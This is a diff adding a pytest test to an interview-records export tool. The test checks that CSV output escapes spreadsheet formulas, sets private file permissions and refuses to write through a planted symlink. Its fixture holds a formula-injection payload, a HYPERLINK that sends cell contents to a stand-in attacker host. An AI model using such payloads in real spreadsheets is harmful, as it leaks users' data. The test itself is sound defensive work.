@@ -7,7 +7,10 @@ import io
 import json
 from pathlib import Path
 
+import pytest
+
 from fieldkit.core.canonical import canonical_json
+from fieldkit.core.errors import FieldkitError
 from fieldkit.core.record import validate
 from fieldkit.exchange import kit as kitx
 from fieldkit.hq import dataset as hq
@@ -121,3 +124,44 @@ def test_jsonl_is_canonical_with_provenance(
         assert "notes" not in record and len(record["provenance"]) == 1
     dates = [json.loads(line)["interview_date"] for line in lines]
     assert dates == sorted(dates)
+
+
+def test_csv_cannot_smuggle_a_formula_and_files_are_private(
+    network: Network, tmp_path: Path
+) -> None:
+    kit = network.kits[0]
+    repo.save(
+        kit,
+        validate(
+            {
+                "interview_date": "2020-02-18",
+                "place": "@Masanchi",
+                "role": "witness",
+                "organisation": "ADC Memorial",
+                "status": "ready",
+                "quotes": [
+                    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+                    "- They came at night.",
+                ],
+            }
+        ),
+    )
+    summary = kitx.export_bundle(kit, network.usb)
+    assert summary.path is not None
+    hq.import_bundle(network.hq, summary.path)
+    target = tmp_path / "dataset.csv"
+    export(network.hq, ExportFormat.CSV, target)
+    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
+    assert [r["quote"] for r in rows] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "'- They came at night.",
+    ]
+    assert rows[0]["place"] == "'@Masanchi"
+    assert target.stat().st_mode & 0o777 == 0o600
+    # A link planted under the temporary name is refused, not written through.
+    victim = tmp_path / "victim.txt"
+    victim.write_text("mine")
+    (tmp_path / ".again.csv.partial").symlink_to(victim)
+    with pytest.raises(FieldkitError):
+        export(network.hq, ExportFormat.CSV, tmp_path / "again.csv")
+    assert victim.read_text() == "mine" and not (tmp_path / "again.csv").exists()
